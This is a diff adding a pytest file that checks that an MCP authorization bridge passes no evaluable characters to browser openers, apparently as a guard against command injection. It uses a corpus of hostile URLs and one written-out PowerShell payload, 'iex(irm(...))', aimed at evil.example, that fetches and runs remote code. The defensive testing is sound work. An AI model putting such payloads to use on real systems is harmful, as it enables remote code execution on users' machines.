@@ -1,0 +1,137 @@
+"""Every opener gets one address that nothing evaluates, and the browser is led to the URL that the terminal shows."""
+
+import asyncio
+import os
+import re
+import subprocess
+from urllib.parse import parse_qsl, unquote_to_bytes, urlsplit
+
+import pytest
+from hostile_urls import PAYLOADS, corpus
+from openers import EVAL, POWERSHELL, WSLVIEW, XDG_OPEN
+
+from mcp_auth_bridge.errors import UrlRefused
+from mcp_auth_bridge.shell import terminal
+from mcp_auth_bridge.shell.browser import open_url
+from mcp_auth_bridge.shell.loopback import Loopback
+from mcp_auth_bridge.shell.person import BrowserPerson
+from mcp_auth_bridge.urls import Purpose, gate
+
+pytestmark = [
+    pytest.mark.skipif(os.name == "nt", reason="the openers are scripts"),
+    # The browser goes on after the bridge has ended, so nobody waits for its end.
+    pytest.mark.filterwarnings("ignore:subprocess .* is still running:ResourceWarning"),
+    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
+]
+
+OPENERS = {"xdg-open": XDG_OPEN, "wslview": WSLVIEW, "a shell": EVAL}
+ENTRANCE = re.compile(r"http://127\.0\.0\.1:[0-9]+/open/[0-9a-f]{32}")
+PLACES = (
+    "https://as.example/a{}",
+    "https://as.example/{}/b",
+    "https://as.example/a;v={}?x=1",
+    "https://as.example/a?x={}&y=2",
+    "http://127.0.0.1:1/{}",
+)
+
+
+def hostile():
+    """A thousand URLs for an authorization endpoint, each of which is refused or opened."""
+    urls = [*corpus(), *(place.format(payload) for payload in PAYLOADS for place in PLACES)]
+    return list(dict.fromkeys(urls))
+
+
+def accepted(url):
+    try:
+        return gate(url, Purpose.AUTHORIZATION)
+    except UrlRefused:
+        return None
+
+
+@pytest.fixture
+def desk(tmp_path, monkeypatch):
+    """Starts the opener of that name with a URL; the notes' end is the opener's end."""
+    notes = tmp_path / "notes"
+    os.mkfifo(notes)
+    for name, script in {**OPENERS, "powershell.exe": POWERSHELL}.items():
+        program = tmp_path / name.replace(" ", "-")
+        program.write_text(script.replace('"$NOTES"', f'"{notes}"').replace('os.environ["NOTES"]', repr(str(notes))))
+        program.chmod(0o700)
+    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
+
+    def start(name, url):
+        assert open_url(url, (str(tmp_path / name.replace(" ", "-")),))
+        count, *words = notes.read_text().splitlines()
+        assert (count, len(words)) == ("1", 1), words
+        return words[0]
+
+    return start
+
+
+async def led_to(address):
+    """Where a browser is sent that opens `address`."""
+    place = urlsplit(address)
+    reader, writer = await asyncio.open_connection(place.hostname, place.port)
+    writer.write(f"GET {place.path} HTTP/1.1\r\nHost: {place.netloc}\r\n\r\n".encode())
+    head = (await reader.read()).decode("latin-1")
+    writer.close()
+    return re.search(r"\r\nlocation: ([^\r]*)\r\n", head)[1]
+
+
+def opened(monkeypatch, start, urls):
+    """For each of `urls`: the argument of the opener, what the terminal shows, and where the browser is sent."""
+    shown = []
+    monkeypatch.setattr(terminal, "print_url", shown.append)
+    monkeypatch.setattr(terminal, "say", lambda _: None)
+
+    class Waiting(Loopback):
+        async def callback(self, state, _):
+            return {"state": state}
+
+    async def story():
+        loopback, found = Waiting(), []
+        await loopback.listen()
+        for url in urls:
+            arguments = []
+            person = BrowserPerson(loopback, lambda address: bool(arguments.append(start(address)) or True))  # noqa: B023 - used at once
+            await person.authorize(url, "S")
+            found.append((arguments[0], shown.pop(), await led_to(arguments[0])))
+        await loopback.finish(b"")
+        return found
+
+    return asyncio.run(story())
+
+
+@pytest.mark.parametrize("opener", OPENERS)
+@pytest.mark.parametrize("every", [25, pytest.param(1, marks=pytest.mark.slow)])
+def test_no_opener_gets_a_character_that_anything_evaluates(desk, monkeypatch, opener, every):
+    urls = [url for url in hostile()[::every] if accepted(url)]
+    assert len(hostile()) >= 1000
+    for url, (argument, shown, led) in zip(
+        urls, opened(monkeypatch, lambda address: desk(opener, address), urls), strict=True
+    ):
+        assert ENTRANCE.fullmatch(argument), url
+        assert led == shown
+        wanted, got = accepted(url), urlsplit(led)
+        assert (got.scheme, got.netloc) == (wanted.scheme, wanted.authority)
+        assert unquote_to_bytes(got.path) == unquote_to_bytes(wanted.path)
+        assert parse_qsl(got.query, keep_blank_values=True) == parse_qsl(wanted.query, keep_blank_values=True)
+
+
+@pytest.mark.parametrize("opener", ["wslview"])
+@pytest.mark.parametrize("every", [25, pytest.param(1, marks=pytest.mark.slow)])
+def test_even_a_url_itself_is_nothing_to_powershell(desk, opener, every):
+    """As `--paste` hands it over, because that browser is on another machine."""
+    for url in hostile()[::every]:
+        if (wanted := accepted(url)) is not None:
+            got = urlsplit(desk(opener, url))
+            assert unquote_to_bytes(got.path) == unquote_to_bytes(wanted.path)
+
+
+def test_the_evaluators_of_this_test_do_evaluate(tmp_path, desk):
+    """A stub that noticed nothing would prove nothing."""
+    payload = "https://as.example/a$(iex(irm('https://evil.example')))"
+    script = tmp_path / "wslview"
+    seen = subprocess.Popen([script, payload], env={"PATH": f"{tmp_path}:/usr/bin:/bin"})
+    assert (tmp_path / "notes").read_text().startswith("0\nevaluated: ")
+    assert seen.wait() == 0
